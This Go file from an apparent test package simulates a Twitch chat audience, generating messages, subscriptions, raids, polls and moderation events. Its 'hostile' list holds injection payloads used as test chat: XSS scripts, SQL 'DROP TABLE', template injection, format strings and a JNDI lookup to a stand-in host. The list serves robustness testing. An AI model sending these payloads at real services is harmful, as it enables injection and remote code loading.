package twitchtest

import (
	"context"
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"time"
)

// AudienceOptions configure NewAudience. Zero values mean defaults.
type AudienceOptions struct {
	// Seed makes the audience reproducible: the same seed gives the same
	// viewers and the same lines, timestamps aside.
	Seed int64
	// Viewers is the number of distinct viewers, broadcaster included;
	// default 300.
	Viewers int
	// Channel is the channel login; default "hearth".
	Channel string
	// RoomID is the channel's room id, also the broadcaster's user id;
	// default UserID(Channel).
	RoomID string
}

// Audience simulates the viewers of one channel. Activity follows a power
// law: each viewer's weight is drawn from a Zipf-like distribution, so a few
// regulars say most of what is said and most viewers speak rarely. Regulars
// are there from the start (their first message of the session is flagged
// returning-chatter=1), newcomers arrive over time (JOIN, then a first
// message flagged first-msg=1), and some leave (PART). A few viewers are
// moderators or VIPs, many subscribe; there are subs, resubs, gift subs,
// raids, cheers, announcements, chat commands (!points, !rank, !top,
// !streak), polls that moderators start and viewers vote in, moderation (deleted messages, timeouts, a banned spam bot), and
// a small share of hostile messages and display names (markup, script,
// near-limit lengths, bidirectional and zero-width characters).
//
// An Audience is not safe for concurrent use.
type Audience struct {
	rng     *rand.Rand
	channel string
	roomID  string
	owner   *viewer
	viewers []*viewer // ordered by arrival
	cum     []float64 // cumulative activity weights, in the order of viewers
	present int       // viewers[:present] have arrived
	step    int
	usedIDs map[string]bool
	hostile []sentLine // hostile messages moderators have not acted on yet
	// pollOptions are the options of the last poll, open until step
	// pollUntil (audience_poll.go).
	pollOptions []string
	pollUntil   int
}

type viewer struct {
	Chatter
	weight   float64
	arrival  int  // step at which the viewer arrives
	newcomer bool // first time in this channel
	spoke    bool // has spoken this session
	inChat   bool // joined and not parted
}

type sentLine struct {
	id   string
	who  Chatter
	text string
}

var (
	loginAdjectives = []string{"sleepy", "cosmic", "salty", "quiet", "brave", "lucky", "fuzzy", "pixel", "retro", "mellow", "spicy", "frozen", "noisy", "tiny", "mighty", "clever", "lazy", "rapid", "shiny", "grumpy", "happy", "dizzy", "witty", "stormy", "golden", "silent", "wild", "neon", "sneaky", "jolly", "crispy", "humble"}
	loginNouns      = []string{"otter", "panda", "falcon", "badger", "wizard", "potato", "ninja", "turtle", "koala", "dragon", "ghost", "pirate", "llama", "cactus", "robot", "goblin", "walrus", "phoenix", "penguin", "muffin", "raccoon", "viking", "yeti", "kraken", "gecko", "moose", "bard", "samurai", "comet", "pebble", "noodle", "toast"}
	colors          = []string{"#FF0000", "#0000FF", "#008000", "#B22222", "#FF7F50", "#9ACD32", "#FF4500", "#2E8B57", "#DAA520", "#D2691E", "#5F9EA0", "#1E90FF", "#FF69B4", "#8A2BE2", "#00FF7F"}
	// oddDisplayNames exercise rendering and escaping: zero-width joiner,
	// right-to-left mark and override, non-Latin scripts, markup, tag
	// separators, emoji and combining marks. None starts or ends with a
	// space, which Twitch never sends.
	oddDisplayNames = []string{
		"Zero\u200dWidth", "\u200fRtlMark", "مشاهد", "ゆうき", "Ünïcødé", "<b>Bold</b>",
		"Semi;Colon Space", "👾Invader👾", "Z\u0336a\u0336l\u0336g\u0336o\u0336", "\u202eLivE", "Тролль", "玩家一号",
	}
	emoteNames = []string{"Kappa", "LUL", "PogChamp", "KEKW", "OMEGALUL", "Pog", "monkaS", "PepeHands", "BibleThump", "Kreygasm", "SeemsGood", "HeyGuys", "NotLikeThis", "ResidentSleeper", "4Head", "catJAM", "EZ", "<3", "DansGame", "VoHiYo"}
	phrases    = []string{
		"hello chat", "gg", "that was clean", "no way", "lets gooo", "this music slaps", "back from lunch, what did I miss?",
		"chat is so fast today", "o7", "lurking but here", "nice one", "unlucky", "he's cooking", "clip it!",
		"can we get a poll?", "true", "real", "hydrate!", "good morning from Brazil", "buenas noches chat",
		"bonjour tout le monde", "こんにちは", "привет чат", "ez", "POGGERS", "insane play", "that was so close",
		"first time catching the stream live", "what game is this?", "how long have you been streaming today?",
		"the boss is weak to fire", "just got here, hi everyone", "rip", "that jump was crazy", "chat, be nice",
		"W streamer", "is this ranked?", "love the new overlay", "wait what happened", "my cat says hi",
		"gl on the run", "hahaha", "this is my favourite part", "already 3am here but worth it",
	}
	questions = []string{
		"what's your sens?", "will you play the DLC?", "how many hours in this game?", "what keyboard is that?",
		"can you say hi to my brother?", "when is the next stream?", "are you doing a giveaway?",
	}
	reactions = []string{"W", "L", "F", "o7", "+1", "?", "LUL", "KEKW", "gg", "lol", "Pog"}
	commands  = []string{"!points", "!points", "!points", "!rank", "!rank", "!top", "!top", "!streak", "!streak", "!points @"}
	hostile   = []string{
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		"\"><svg/onload=alert(document.domain)>",
		"{{constructor.constructor('alert(1)')()}}",
		"'; DROP TABLE viewers; --",
		"javascript:alert(1)",
		"\u202egnp.exe hidden text",
		"!points <script>alert(1)</script>",
		"!top 99999999999999999999",
		"Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034fA\u0334\u0351\u0300L\u0346\u0342\u0307G\u0344\u0345O\u0354 \u0351T\u0352E\u035eX\u0361T",
		"%s%s%s%n %x %p \\x00 ${jndi:ldap://example.invalid/a}",
	}
	spamTexts = []string{
		"Wanna become famous? Buy followers, primes and viewers on example dot com",
		"Best viewers on streamboo .com ( remove the space )",
	}
	announcements = []string{
		"Giveaway at the end of stream, type !points to check your balance!",
		"Be kind in chat, mods are watching o7",
		"Next stream Friday 8pm, see you there!",
	}
	announceColors = []string{"PRIMARY", "BLUE", "GREEN", "ORANGE", "PURPLE"}
)

// NewAudience creates a simulated audience for one channel.
func NewAudience(opts AudienceOptions) *Audience {
	n := opts.Viewers
	if n <= 0 {
		n = 300
	}
	ch := channelName(opts.Channel)
	if ch == "" {
		ch = "hearth"
	}
	roomID := opts.RoomID
	if roomID == "" {
		roomID = UserID(ch)
	}
	seed := uint64(opts.Seed)
	a := &Audience{
		rng:     rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)),
		channel: ch,
		roomID:  roomID,
		usedIDs: map[string]bool{roomID: true},
	}
	a.owner = &viewer{
		Chatter: Chatter{ID: roomID, Login: ch, DisplayName: capitalize(ch), Badges: []string{"broadcaster/1"}, Color: "#9146FF"},
		inChat:  true,
	}
	logins := map[string]bool{ch: true}
	all := []*viewer{a.owner}
	for len(all) < n {
		login, display := a.newName()
		if logins[login] {
			continue
		}
		logins[login] = true
		v := &viewer{Chatter: Chatter{ID: a.newUserID(), Login: login, DisplayName: display}}
		if a.rng.Float64() < 0.8 {
			v.Color = colors[a.rng.IntN(len(colors))]
		}
		all = append(all, v)
	}

	// Activity: weight 1/rank^1.1 over a random ranking, the broadcaster
	// among the top talkers.
	ranks := a.rng.Perm(n)
	for i, v := range all {
		r := ranks[i] + 1
		if v == a.owner {
			r = 3
		}
		v.weight = 1 / math.Pow(float64(r), 1.1)
	}
	byWeight := slices.Clone(all[1:])
	slices.SortStableFunc(byWeight, func(x, y *viewer) int {
		switch {
		case x.weight > y.weight:
			return -1
		case x.weight < y.weight:
			return 1
		}
		return 0
	})
	// Moderators and VIPs are drawn from the regulars (the top fifth by
	// activity); regulars also subscribe more often.
	mods, vips := max(2, n/50), max(1, n/60)
	regulars := min(len(byWeight), max(len(byWeight)/5, mods+vips))
	for i, r := range a.rng.Perm(regulars) {
		switch {
		case i < mods:
			byWeight[r].Badges = append(byWeight[r].Badges, "moderator/1")
		case i < mods+vips:
			byWeight[r].Badges = append(byWeight[r].Badges, "vip/1")
		}
	}
	for i, v := range byWeight {
		top := float64(i) / float64(len(byWeight))
		subChance := 0.2
		if top < 0.2 {
			subChance = 0.55
		}
		if a.rng.Float64() < subChance {
			a.setSub(v, 1+a.rng.IntN(60))
		}
		if a.rng.Float64() < 0.05 {
			v.Badges = append(v.Badges, "bits/100")
		}
		if a.rng.Float64() < 0.05 {
			v.Badges = append(v.Badges, "premium/1")
		}
		// Regulars are there from the start; others arrive over time.
		switch {
		case top < 0.3 || a.rng.Float64() < 0.35:
			v.inChat = true
		default:
			v.newcomer = a.rng.Float64() < 0.6
			v.arrival = 1 + a.rng.IntN(20*n)
		}
	}
	slices.SortStableFunc(all, func(x, y *viewer) int { return x.arrival - y.arrival })
	a.viewers = all
	a.cum = make([]float64, len(all))
	sum := 0.0
	for i, v := range all {
		sum += v.weight
		a.cum[i] = sum
	}
	for a.present < len(all) && all[a.present].arrival == 0 {
		a.present++
	}
	return a
}

// Channel returns the audience's channel login.
func (a *Audience) Channel() string { return a.channel }

// RoomID returns the audience's room id, also its broadcaster's user id.
func (a *Audience) RoomID() string { return a.roomID }

// Broadcaster returns the channel's owner as a chatter.
func (a *Audience) Broadcaster() Chatter { return a.owner.clone() }

// Viewers returns every simulated viewer, broadcaster included, with their
// badges as they stand now (subscriptions add badges over time).
func (a *Audience) Viewers() []Chatter {
	out := make([]Chatter, len(a.viewers))
	for i, v := range a.viewers {
		out[i] = v.clone()
	}
	return out
}

func (v *viewer) clone() Chatter {
	c := v.Chatter
	c.Badges = slices.Clone(c.Badges)
	return c
}

func capitalize(s string) string {
	if s == "" {
		return s
	}
	return strings.ToUpper(s[:1]) + s[1:]
}

// newName returns a new login and its display name.
func (a *Audience) newName() (login, display string) {
	adj := loginAdjectives[a.rng.IntN(len(loginAdjectives))]
	noun := loginNouns[a.rng.IntN(len(loginNouns))]
	digits := strconv.Itoa(a.rng.IntN(10000))
	switch k := a.rng.IntN(100); {
	case k < 30:
		login, display = adj+noun, capitalize(adj)+capitalize(noun)
	case k < 50:
		login, display = adj+"_"+noun, capitalize(adj)+"_"+capitalize(noun)
	case k < 75:
		login, display = noun+digits, capitalize(noun)+digits
	case k < 90:
		login, display = adj+noun+digits, adj+noun+digits
	case k < 95:
		login, display = "xx"+noun+"xx", "xX"+capitalize(noun)+"Xx"
	default:
		login = "user" + digits + noun
		display = oddDisplayNames[a.rng.IntN(len(oddDisplayNames))]
	}
	if len(login) > 25 {
		login = login[:25]
	}
	return login, display
}

func (a *Audience) newUserID() string {
	for {
		id := strconv.Itoa(10_000_000 + a.rng.IntN(900_000_000))
		if !a.usedIDs[id] {
			a.usedIDs[id] = true
			return id
		}
	}
}

// newID returns a message id from the audience's random source.
func (a *Audience) newID() string {
	var b [16]byte
	for i := range 2 {
		u := a.rng.Uint64()
		for j := range 8 {
			b[i*8+j] = byte(u >> (8 * j))
		}
	}
	return formatUUID(b)
}

// setSub gives v a subscriber badge for months of subscription, keeping
// Twitch's badge order.
func (a *Audience) setSub(v *viewer, months int) {
	v.Months = months
	version := "0"
	for _, tier := range []int{3, 6, 9, 12, 24, 36, 48} {
		if months >= tier {
			version = strconv.Itoa(tier)
		}
	}
	badges := v.Badges[:0:0]
	placed := false
	for _, b := range v.Badges {
		name, _, _ := strings.Cut(b, "/")
		if name == "subscriber" {
			continue
		}
		if !placed && name != "broadcaster" && name != "moderator" && name != "vip" {
			badges = append(badges, "subscriber/"+version)
			placed = true
		}
		badges = append(badges, b)
	}
	if !placed {
		badges = append(badges, "subscriber/"+version)
	}
	v.Badges = badges
}

// pick returns a present viewer, drawn by activity weight.
func (a *Audience) pick() *viewer {
	u := a.rng.Float64() * a.cum[a.present-1]
	i, _ := slices.BinarySearch(a.cum[:a.present], u)
	return a.viewers[min(i, a.present-1)]
}

// pickWhere returns a present viewer, drawn uniformly, that satisfies ok; nil
// if a few tries find none.
func (a *Audience) pickWhere(ok func(*viewer) bool) *viewer {
	for range 30 {
		if v := a.viewers[a.rng.IntN(a.present)]; ok(v) {
			return v
		}
	}
	return nil
}

// Next advances the simulation by one event and returns its raw IRC lines:
// usually one, sometimes two (a JOIN before a returning viewer's message, a
// spam bot's message and its ban). now stamps the lines' tmi-sent-ts.
func (a *Audience) Next(now time.Time) []string {
	a.step++
	if a.present < len(a.viewers) && a.viewers[a.present].arrival <= a.step {
		v := a.viewers[a.present]
		a.present++
		v.inChat = true
		return []string{JoinLine(a.channel, v.Login)}
	}
	if lines := a.pollStart(now); lines != nil {
		return lines
	}
	if lines := a.segmentLine(now); lines != nil {
		return lines
	}
	var lines []string
	switch r := a.rng.Float64(); {
	case r < 0.015:
		lines = a.part()
	case r < 0.027:
		lines = a.notice(now)
	case r < 0.029:
		lines = a.raid(now)
	case r < 0.035:
		lines = a.moderate(now)
	}
	if lines == nil {
		lines = a.chat(now)
	}
	return lines
}

func (a *Audience) part() []string {
	v := a.pickWhere(func(v *viewer) bool { return v.inChat && v != a.owner })
	if v == nil {
		return nil
	}
	v.inChat = false
	return []string{PartLine(a.channel, v.Login)}
}

func (a *Audience) chat(now time.Time) []string {
	v := a.pick()
	var lines []string
	if !v.inChat {
		v.inChat = true
		lines = append(lines, JoinLine(a.channel, v.Login))
	}
	opt := MsgOptions{ID: a.newID()}
	if !v.spoke {
		v.spoke = true
		if v.newcomer {
			opt.FirstMsg = true
		} else if v != a.owner && a.rng.Float64() < 0.6 {
			opt.ReturningChatter = true
		}
	}
	var text string
	switch x := a.rng.Float64(); {
	case x < 0.06:
		text = commands[a.rng.IntN(len(commands))]
		if strings.HasSuffix(text, "@") {
			text += a.pick().Login
		}
	case x < 0.075:
		text = a.hostileText()
		// Moderators miss some: keep the latest few to act on.
		a.hostile = append(a.hostile, sentLine{id: opt.ID, who: v.clone(), text: text})
		if len(a.hostile) > 10 {
			a.hostile = a.hostile[1:]
		}
	case x < 0.09:
		text, opt.Bits = a.cheer()
	case x < 0.11:
		opt.Action = true
		text = phrases[a.rng.IntN(len(phrases))]
	default:
		text = a.chatText()
	}
	hostile := len(a.hostile) > 0 && a.hostile[len(a.hostile)-1].id == opt.ID
	if burst := a.burstText(); burst != "" && !opt.Action && opt.Bits == 0 && !hostile {
		text = burst
	}
	if vote := a.voteText(); vote != "" && !opt.Action && opt.Bits == 0 && !hostile {
		text = vote
	}
	return append(lines, PrivmsgLine(a.channel, a.roomID, v.Chatter, text, now, opt))
}

func (a *Audience) hostileText() string {
	if a.rng.IntN(len(hostile)+2) >= len(hostile) {
		// A message close to Twitch's 500-character limit.
		var b strings.Builder
		for b.Len() < 500 {
			b.WriteString(emoteNames[a.rng.IntN(len(emoteNames))])
			b.WriteString(" spam ")
		}
		return strings.TrimSpace(b.String()[:480+a.rng.IntN(15)])
	}
	return hostile[a.rng.IntN(len(hostile))]
}

func (a *Audience) cheer() (string, int) {
	amounts := []int{1, 10, 50, 100, 100, 100, 500, 1000}
	parts, total := []string{}, 0
	for range 1 + a.rng.IntN(2) {
		n := amounts[a.rng.IntN(len(amounts))]
		parts = append(parts, "Cheer"+strconv.Itoa(n))
		total += n
	}
	parts = append(parts, phrases[a.rng.IntN(len(phrases))])
	return strings.Join(parts, " "), total
}

func (a *Audience) chatText() string {
	phrase := phrases[a.rng.IntN(len(phrases))]
	emote := emoteNames[a.rng.IntN(len(emoteNames))]
	switch y := a.rng.Float64(); {
	case y < 0.35:
		return phrase
	case y < 0.6:
		return phrase + " " + emote
	case y < 0.78:
		n := 1 + a.rng.IntN(3)
		if a.rng.Float64() < 0.1 {
			n = 3 + a.rng.IntN(6)
		}
		return strings.TrimSpace(strings.Repeat(emote+" ", n))
	case y < 0.88:
		return "@" + a.pick().DisplayName + " " + phrase
	case y < 0.94:
		return "@" + a.owner.DisplayName + " " + questions[a.rng.IntN(len(questions))]
	default:
		return reactions[a.rng.IntN(len(reactions))]
	}
}

func (a *Audience) notice(now time.Time) []string {
	opt := MsgOptions{ID: a.newID()}
	plan := []string{"1000", "1000", "1000", "2000", "3000", "Prime", "Prime"}[a.rng.IntN(7)]
	notSub := func(v *viewer) bool { return v != a.owner && !v.has("subscriber") }
	switch k := a.rng.Float64(); {
	case k < 0.3:
		v := a.pickWhere(notSub)
		if v == nil {
			return nil
		}
		a.setSub(v, 1)
		text := ""
		if a.rng.Float64() < 0.4 {
			text = phrases[a.rng.IntN(len(phrases))]
		}
		return []string{SubLine(a.channel, a.roomID, v.Chatter, plan, text, now, opt)}
	case k < 0.65:
		v := a.pickWhere(func(v *viewer) bool { return v.has("subscriber") })
		if v == nil {
			return nil
		}
		a.setSub(v, v.Months+1)
		text := ""
		if a.rng.Float64() < 0.5 {
			text = fmt.Sprintf("%d months! %s", v.Months, phrases[a.rng.IntN(len(phrases))])
		}
		return []string{ResubLine(a.channel, a.roomID, v.Chatter, v.Months, plan, text, now, opt)}
	case k < 0.9:
		gifter := a.pick()
		v := a.pickWhere(func(v *viewer) bool { return notSub(v) && v != gifter })
		if v == nil {
			return nil
		}
		if plan == "Prime" {
			plan = "1000" // Prime subs cannot be gifted
		}
		a.setSub(v, 1)
		return []string{SubGiftLine(a.channel, a.roomID, gifter.Chatter, v.Chatter, plan, now, opt)}
	default:
		by := a.pickWhere(func(v *viewer) bool { return v.has("moderator") })
		if by == nil {
			by = a.owner
		}
		color := announceColors[a.rng.IntN(len(announceColors))]
		return []string{AnnouncementLine(a.channel, a.roomID, by.Chatter, color, announcements[a.rng.IntN(len(announcements))], now, opt)}
	}
}

func (a *Audience) raid(now time.Time) []string {
	login, display := a.newName()
	raider := Chatter{ID: a.newUserID(), Login: login, DisplayName: display, Badges: []string{"partner/1"}}
	// Raid sizes follow a power law too: mostly small, now and then large.
	viewers := min(5000, 2+int(3*math.Pow(1-a.rng.Float64(), -1.3)))
	return []string{RaidLine(a.channel, a.roomID, raider, viewers, now, MsgOptions{ID: a.newID()})}
}

func (a *Audience) moderate(now time.Time) []string {
	r := a.rng.Float64()
	if len(a.hostile) > 0 && r < 0.6 {
		h := a.hostile[0]
		a.hostile = a.hostile[1:]
		if a.rng.Float64() < 0.6 {
			return []string{ClearMsgLine(a.channel, a.roomID, h.who.Login, h.id, h.text, now)}
		}
		return []string{TimeoutLine(a.channel, a.roomID, h.who, time.Duration(60+a.rng.IntN(540))*time.Second, now)}
	}
	if r > 0.8 {
		return nil
	}
	bot := Chatter{ID: a.newUserID(), Login: "famous_bot" + strconv.Itoa(a.rng.IntN(100000))}
	text := spamTexts[a.rng.IntN(len(spamTexts))]
	return []string{
		PrivmsgLine(a.channel, a.roomID, bot, text, now, MsgOptions{ID: a.newID(), FirstMsg: true}),
		BanLine(a.channel, a.roomID, bot, now),
	}
}

// Run sends the audience's lines to channel on s at about rate lines per
// second, stamped with the wall clock, until ctx is done (it then returns
// nil) or s is closed (ErrClosed). Run falls behind rather than bursting
// when sending stalls for more than a second.
func (a *Audience) Run(ctx context.Context, s *Server, rate float64) error {
	if rate <= 0 || math.IsNaN(rate) || math.IsInf(rate, 0) {
		return errors.New("twitchtest: audience rate must be a positive number of lines per second")
	}
	interval := time.Duration(float64(time.Second) / rate)
	next := time.Now()
	timer := time.NewTimer(0)
	defer timer.Stop()
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-s.closed:
			return ErrClosed
		case <-timer.C:
		}
		now := time.Now()
		lines := a.Next(now)
		s.Send(a.channel, lines...)
		next = next.Add(time.Duration(len(lines)) * interval)
		if now.Sub(next) > time.Second {
			next = now
		}
		timer.Reset(max(0, time.Until(next)))
	}
}
